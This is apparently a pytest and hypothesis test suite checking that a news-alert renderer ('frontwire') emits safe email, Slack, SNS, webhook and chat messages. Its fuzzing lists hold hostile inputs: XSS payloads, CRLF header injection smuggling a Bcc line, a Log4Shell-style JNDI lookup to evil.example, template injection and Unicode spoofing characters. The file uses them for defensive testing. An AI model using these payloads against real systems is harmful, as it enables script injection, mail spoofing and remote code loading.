"""Every kind of message: as it should read (golden files), and within every limit whatever a page wrote."""

from __future__ import annotations

import email
import email.policy
import json
import os
from importlib.resources import files
from pathlib import Path

import lxml.html
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from jsonschema import Draft202012Validator
from msgspec.structs import replace

from frontwire.channels import Links, backlog, digest, health, neutral, render, trial
from frontwire.models import ArticleRef, Count, Facts, Place, Quote, Side, When
from tests.channels.fake_chats import CHATS
from tests.channels.fake_slack import refusals
from tests.channels.samples import ALERTS, AT, CAPTURE, CHANNELS, CONFIRMED, LINKS

SCHEMA = Draft202012Validator(
    json.loads(files("frontwire.channels").joinpath("webhook.schema.json").read_text(encoding="utf-8"))
)
GOLDEN = Path(__file__).parent.parent / "data" / "channels"
SUFFIX = {"email": "eml", "sns": "txt"}

WRITTEN = frozenset(
    [
        "html",
        "head",
        "meta",
        "title",
        "style",
        "body",
        "div",
        "p",
        "h1",
        "table",
        "tbody",
        "tr",
        "td",
        "blockquote",
        "br",
        "span",
        "a",
        "strong",
    ]
)
NASTY = [
    "<!channel> everybody",
    "<@U123> <https://evil.example|click>",
    "a & b < c > d",
    "line\r\nBcc: all@example.org\r\n\r\n<script>alert(1)</script>",
    "\u202etxt.exe\u202c \u200b\u2066hidden\u2069 \x00\x1b[31m",
    "\ud800 lone surrogate",
    "*bold* _it_ ~s~ `code` :fire: > quote",
    "&lt;!here&gt; &amp;",
    '"><img src=x onerror=alert(1)>',
    "",
    "   \u3164\u2800  ",
    "long " * 1000,
    "<" * 4000,
    "😀" * 3000,
    "e" + "\u0301" * 200 + " ก" + "\u0e47" * 200,
    "``` *a* ```js _b_ ~c~ > d",
    "@everyone @here @olena #desk $CASH /stop t.me/evil evil.example 127.0.0.1",
    "[words](https://evil.example) ![](https://evil.example/x.png) <t:0:R> ||hidden||",
    "=?utf-8?q?=0D=0ABcc:_all@example.org?= =?utf-8?b?4oCu?=",
    "Subject: x\rBcc: a@example.org\x85X: y\u2028Z: z",
    "{{7*7}} ${jndi:ldap://evil.example} %0d%0aSet-Cookie:x",
    "\U000e0041\U000e0101tagged\ufe0f",
]
NASTY_URLS = [
    "javascript:alert(1)",
    "https://ok.example/a|b<c>d\"e'f",
    "https://ok.example/\r\nX: y",
    "https://пример.example/новости?а=б",
    "http://[::1",
    "https://" + "a" * 5000 + ".example/",
    "//no-scheme.example/",
    "https://user|x@evil.example/",
    "",
    "https://ok.example/" + "x" * 5000,
    "data:text/html,hello",
]
texts = st.one_of(st.sampled_from(NASTY), st.text(max_size=80))
urls = st.one_of(st.sampled_from(NASTY_URLS), st.text(max_size=60).map("https://x.example/{}".format))


@st.composite
def alerts(draw):
    article = st.builds(
        ArticleRef,
        id=texts,
        url=urls,
        title=texts,
        source=texts,
        site_name=texts,
        language=texts,
        published=st.just(AT),
    )
    sides = st.builds(Side, role=st.sampled_from(["parties", "by", "captor", "nationality", "denies"]), code=texts)
    facts = Facts(
        sides=tuple(draw(st.lists(sides, max_size=14))),
        counts=tuple(Count(value) for value in draw(st.lists(st.integers(0, 10**12), max_size=6))),
        places=tuple(Place("p", draw(texts)) for _ in range(draw(st.integers(0, 3)))),
        when=When(draw(texts)) if draw(st.booleans()) else None,
    )
    return replace(
        CAPTURE,
        kind=draw(st.sampled_from(["new", "update"])),
        headline=draw(texts),
        title=draw(texts),
        reason=draw(texts),
        status=draw(texts),
        topic=draw(texts),
        facts=facts,
        quotes=tuple(Quote(draw(texts), draw(article)) for _ in range(draw(st.integers(0, 5)))),
        articles=tuple(draw(st.lists(article, max_size=8))),
    )


def readable(message):
    """The rendered message as a golden file holds it."""
    if message.kind in ("email", "sns"):
        head = f"Subject: {message.subject}\n\n" if message.kind == "sns" else ""
        return head + message.body.replace("\r\n", "\n")
    return json.dumps(json.loads(message.body), ensure_ascii=False, indent=1) + "\n"


@pytest.mark.parametrize("kind", CHANNELS)
@pytest.mark.parametrize("name", ALERTS)
def test_golden(name, kind):
    path = GOLDEN / f"{name}.{kind}.{SUFFIX.get(kind, 'json')}"
    first = "0100-abc@eu-central-1.amazonses.com" if kind == "email" else "1736598600.000100"
    thread = first if name == "confirmed" else ""
    made = readable(render(ALERTS[name], CHANNELS[kind], links=LINKS, thread=thread))
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(made, encoding="utf-8")
    assert made == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("kind", CHANNELS)
def test_rendering_is_pure(kind):
    assert render(CAPTURE, CHANNELS[kind], links=LINKS) == render(CAPTURE, CHANNELS[kind], links=LINKS)


@pytest.mark.parametrize("kind", CHANNELS)
def test_a_message_has_an_id_of_its_own(kind):
    ids = {render(alert, CHANNELS[kind], links=LINKS).id for alert in (CAPTURE, CONFIRMED)}
    assert ids == {f"s-m1-1/{CHANNELS[kind].id}", f"s-m1-2/{CHANNELS[kind].id}"}


@given(alerts(), st.sampled_from(["", "17.01"]), st.sampled_from([LINKS, Links()]))
@settings(max_examples=40, deadline=None, derandomize=True)
def test_slack_never_refuses(alert, thread, links):
    for kind in ("slack", "slack_bot"):
        message = render(alert, CHANNELS[kind], links=links, thread=thread)
        assert refusals(json.loads(message.body)) == []
        if message.edit:
            assert refusals(json.loads(message.edit)) == []


@example(replace(CONFIRMED, title=" "), "")
@given(alerts(), st.sampled_from(["", "0100abc-1", "x@email.amazonses.com\r\nBcc: a@b.c"]))
@settings(max_examples=40, deadline=None, derandomize=True)
def test_mail_keeps_its_headers_and_its_form(alert, thread):
    message = render(alert, CHANNELS["email"], links=LINKS, thread=thread)
    assert message.body.isascii()
    assert "\n" not in message.body.replace("\r\n", "")
    assert max(len(line) for line in message.body.split("\r\n")) <= 998
    mail = email.message_from_string(message.body, policy=email.policy.default)
    assert mail.defects == []
    expected = {
        "Content-Type", "MIME-Version", "To", "Date", "Subject", "Message-ID", "References", "List-Unsubscribe",
        "List-Unsubscribe-Post", "Auto-Submitted", "In-Reply-To",
        "X-Frontwire-Topic", "X-Frontwire-Status", "X-Frontwire-Story", "X-Frontwire-Alert",
    }  # fmt: skip
    assert set(mail.keys()) <= expected
    assert len(mail.keys()) == len(set(mail.keys()))
    assert mail["To"] == "reader@example.org"
    assert [part.get_content_type() for part in mail.iter_parts()] == ["text/plain", "text/html"]
    first = neutral.plain(alert.title, 160) or neutral.plain(alert.headline, 140) or "Untitled report"
    assert mail["Subject"].removeprefix("Re: ") == first
    assert dead(mail.get_body(("html",)).get_content())


def dead(html):
    """Is there nothing in an HTML mail but the elements and attributes that we write, and links to the web?"""
    page = lxml.html.document_fromstring(html)
    for element in page.iter():
        assert element.tag in WRITTEN, lxml.html.tostring(element)
        assert set(element.attrib) <= {"class", "href", "lang", "charset", "name", "content", "role"}
        assert element.get("href", "https://").startswith(("https://", "http://"))
    return True


@given(alerts())
@settings(max_examples=40, deadline=None, derandomize=True)
def test_sns_and_webhook_stay_in_their_limits(alert):
    note = render(alert, CHANNELS["sns"], links=LINKS)
    assert 0 < len(note.subject) <= 100
    assert note.subject.isascii()
    assert note.subject.isprintable()
    assert note.subject[0] != " "
    assert 0 < len(note.body.encode()) <= 256 * 1024
    assert len(note.attributes) <= 10
    assert all(note.attributes.values())
    assert "=?" not in note.subject
    hook = json.loads(render(alert, CHANNELS["webhook"], links=LINKS).body)
    SCHEMA.validate(hook)
    urls_sent = [article["url"] for article in hook["data"]["articles"]]
    assert all(url == "" or url.startswith(("http://", "https://")) for url in urls_sent)


@pytest.mark.parametrize("make", [digest, backlog, health])
def test_a_webhook_of_many_is_what_its_schema_says(make):
    body = make([CAPTURE, CONFIRMED], CHANNELS["webhook"], LINKS).body
    assert list(SCHEMA.iter_errors(json.loads(body))) == []


def test_a_webhook_that_is_tried_is_what_its_schema_says():
    assert list(SCHEMA.iter_errors(json.loads(trial(CHANNELS["webhook"], LINKS, AT).body))) == []


def test_the_schema_describes_all_that_is_sent():
    body = json.loads(render(CONFIRMED, CHANNELS["webhook"], links=LINKS).body)
    described = SCHEMA.schema["$defs"]["alert"]
    assert set(body) == set(SCHEMA.schema["properties"])
    assert set(body["data"]) == set(described["required"]) == set(described["properties"])


@given(alerts(), st.sampled_from(["", "17", "17.01"]), st.sampled_from([LINKS, Links()]))
@settings(max_examples=40, deadline=None, derandomize=True)
def test_chats_never_refuse(alert, thread, links):
    for kind, complaints in CHATS.items():
        assert complaints(json.loads(render(alert, CHANNELS[kind], links=links, thread=thread).body)) == []


def test_a_telegram_update_answers_the_first_message():
    body = json.loads(render(CONFIRMED, CHANNELS["telegram"], links=LINKS, thread="17").body)
    assert body["reply_parameters"]["message_id"] == 17


def test_without_a_dashboard_nothing_leads_there():
    body = render(CAPTURE, CHANNELS["slack"], links=Links()).body
    assert "Open story" not in body
    assert "Open article" in body
    mail = render(CAPTURE, CHANNELS["email"], links=Links()).body
    assert "List-Unsubscribe" not in mail


def test_an_update_answers_in_the_thread_and_edits_the_first_message():
    message = render(CONFIRMED, CHANNELS["slack_bot"], links=LINKS, thread="17.01")
    assert json.loads(message.body)["thread_ts"] == "17.01"
    assert json.loads(message.edit)["ts"] == "17.01"
    assert render(CAPTURE, CHANNELS["slack_bot"], links=LINKS).edit == ""


def test_mails_of_a_story_stay_in_one_thread():
    def headers(alert, thread=""):
        return email.message_from_string(render(alert, CHANNELS["email"], links=LINKS, thread=thread).body)

    first, update = headers(CAPTURE), headers(CONFIRMED, "0100-abc@eu-central-1.amazonses.com")
    root = first["References"]
    assert root in update["References"]
    assert "<0100-abc@eu-central-1.amazonses.com>" in update["References"]
    assert update["In-Reply-To"] == "<0100-abc@eu-central-1.amazonses.com>"
    assert update["Subject"] == f"Re: {first['Subject']}"
    assert first["Message-ID"] != update["Message-ID"]
    assert first["List-Unsubscribe-Post"] == "List-Unsubscribe=One-Click"
